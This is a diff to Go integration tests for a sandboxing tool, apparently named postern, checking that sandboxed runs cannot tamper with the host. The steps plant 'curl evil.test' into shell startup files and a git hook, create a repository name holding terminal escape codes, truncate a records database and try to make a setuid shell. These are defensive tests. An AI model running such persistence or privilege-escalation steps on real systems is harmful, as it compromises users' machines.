@@ -667,67 +667,6 @@ allow_cidrs = [%q]
 		}
 	})
 
-	t.Run("FilesObeyedOutsideTheRunMadeAreReported", func(t *testing.T) {
-		t.Parallel()
-		// A ~/.bash_profile that did not exist cannot be bound read-only, and
-		// a ~/.bashrc that is a link is bound at its target: postern run says,
-		// once the run is over, that they were made or replaced.
-		p := l.poster(t)
-		home := t.TempDir()
-		if err := os.WriteFile(filepath.Join(home, "bashrc.real"), []byte("original\n"), 0o644); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.Symlink("bashrc.real", filepath.Join(home, ".bashrc")); err != nil {
-			t.Fatal(err)
-		}
-		// Another repository under the home: its hooks are not held
-		// read-only (only the working directory's repository is).
-		if out, err := exec.Command("git", "init", "-q", filepath.Join(home, "src", "other")).CombinedOutput(); err != nil {
-			t.Fatalf("git init: %v\n%s", err, out)
-		}
-		time.Sleep(50 * time.Millisecond) // the repository is older than the run
-		p.Env = append(p.Env, "HOME="+home)
-		w := p.run(t, l.flags(t),
-			step("plant", `echo 'curl evil.test' > "$HOME/.bash_profile" && rm "$HOME/.bashrc" && echo 'curl evil.test' > "$HOME/.bashrc"`)+
-				step("hook", `printf '#!/bin/sh\ncurl evil.test\n' > "$HOME/src/other/.git/hooks/post-merge"`)+
-				// A repository whose name would act on the person's terminal.
-				step("escape", `git init -q "$HOME/src/$(printf 'x\033]0;pwned\007')"`)+
-				step("notes", `echo fine > "$HOME/notes"`))
-		if w.Code != 0 || rc(t, w.Out(t, "plant")) != 0 || rc(t, w.Out(t, "hook")) != 0 || rc(t, w.Out(t, "notes")) != 0 {
-			t.Fatalf("run: %s", w)
-		}
-		for _, want := range []string{
-			"postern: run " + w.Run.ID + ": " + filepath.Join(home, "src/other/.git/hooks/post-merge") + " changed during the run.",
-			"postern: run " + w.Run.ID + ": " + filepath.Join(home, ".bash_profile") + " appeared during the run. Programs outside the wall obey it",
-			"postern: run " + w.Run.ID + ": " + filepath.Join(home, ".bashrc") + " was a link to bashrc.real and the run replaced it.",
-		} {
-			if !strings.Contains(w.Stderr, want) {
-				t.Errorf("stderr lacks %q:\n%s", want, w)
-			}
-		}
-		if strings.Contains(w.Stderr, "notes") {
-			t.Errorf("a file nothing obeys was reported:\n%s", w.Stderr)
-		}
-		if strings.ContainsAny(w.Stderr, "\x1b\a") || !strings.Contains(w.Stderr, `x\x1b]0;pwned\a/.git" appeared during the run`) {
-			t.Errorf("a name with control characters is not shown quoted:\n%q", w.Stderr)
-		}
-		if n := strings.Count(w.Stderr, filepath.Join(home, ".bash_profile")); n != 1 {
-			t.Errorf("the planted file is named %d times, want once:\n%s", n, w.Stderr)
-		}
-		// The record keeps them.
-		if want := []string{
-			filepath.Join(home, ".bash_profile") + " appeared during the run",
-			filepath.Join(home, ".bashrc") + " was a link to bashrc.real and the run replaced it",
-			filepath.Join(home, "src/other/.git/hooks/post-merge") + " changed during the run",
-			strconv.Quote(filepath.Join(home, "src", "x\x1b]0;pwned\a", ".git")) + " appeared during the run",
-		}; !slices.Equal(w.Run.Guarded, want) {
-			t.Errorf("the run record's guarded files: %q, want %q", w.Run.Guarded, want)
-		}
-		if show := p.exec(t, "runs", "show", w.Run.ID); !strings.Contains(show.Stdout, "made or changed  "+filepath.Join(home, ".bash_profile")+" appeared during the run") {
-			t.Errorf("runs show does not name the planted file:\n%s", show.Stdout)
-		}
-	})
-
 	t.Run("TheDoorIsInvisibleAndKillMinusOneStaysInside", func(t *testing.T) {
 		t.Parallel()
 		p := l.poster(t)
@@ -1107,6 +1046,11 @@ func testUnprivileged(t *testing.T, l *wallLab) {
 			step("dig-allowed", "dig +short +time=3 +tries=1 @"+l.Other.Addr.String()+" web.test")+
 			step("dig-denied", "dig +time=3 +tries=1 +tcp @"+l.Other.Addr.String()+" "+denied)+
 			step("nft", "nft flush ruleset")+
+			// The filesystem, as an unprivileged user: the home's writes stay
+			// private, the records out of reach, no setuid file left.
+			step("aliases", `echo 'curl evil.test' > "$HOME/.bash_aliases" && cat "$HOME/.bash_aliases"`)+
+			step("records", `(: > "$POSTERN_HOME/records.db")`)+
+			step("setuid", "cp /bin/sh ./s && chmod 4755 ./s")+
 			"exit 3\n")
 	if w.Code != 3 || w.Run.ExitCode == nil || *w.Run.ExitCode != 3 || w.Run.Carry != "network-wall" {
 		t.Fatalf("as uid %d: %s", nobody, w)
@@ -1142,6 +1086,24 @@ func testUnprivileged(t *testing.T, l *wallLab) {
 	}
 	if out := w.Out(t, "nft"); rc(t, out) == 0 {
 		t.Errorf("nft flush ruleset as nobody succeeded: %s", out)
+	}
+	if out := w.Out(t, "aliases"); rc(t, out) != 0 || !strings.Contains(out, "curl evil.test") {
+		t.Errorf("the home as nobody does not take writes inside: %s", out)
+	}
+	if _, err := os.Stat(filepath.Join(home, ".bash_aliases")); err == nil {
+		t.Errorf("~/.bash_aliases written by nobody's run reached the host")
+	}
+	if out := w.Out(t, "records"); rc(t, out) == 0 {
+		t.Errorf("nobody's run truncated its records: %s", out)
+	}
+	if out := w.Out(t, "setuid"); rc(t, out) == 0 {
+		t.Errorf("nobody's run made a setuid file: %s", out)
+	}
+	if st, err := os.Stat(filepath.Join(work, "s")); err == nil && st.Mode()&os.ModeSetuid != 0 {
+		t.Errorf("%s is setuid on the host", filepath.Join(work, "s"))
+	}
+	if rs := p.runs(t); len(rs) != 1 || rs[0].ID != w.Run.ID {
+		t.Errorf("nobody's records after the run: %+v", rs)
 	}
 	for _, q := range append(l.Outside.Queries(), l.Upstream.Queries()...) {
 		if strings.Contains(q, tag) {
@@ -1404,6 +1366,12 @@ func TestWallRunsLeaveNothingBehind(t *testing.T) {
 	}
 	if rs := p.runs(t); len(rs) != n+1 {
 		t.Errorf("%d runs recorded, want %d", len(rs), n+1)
+	}
+	// Each run's cgroup went with it.
+	for _, pattern := range []string{"/sys/fs/cgroup/*/postern-run-*", "/sys/fs/cgroup/postern-run-*", "/sys/fs/cgroup/*/*/postern-run-*"} {
+		if left, _ := filepath.Glob(pattern); len(left) > 0 {
+			t.Errorf("cgroups of runs remain: %v", left)
+		}
 	}
 }
 
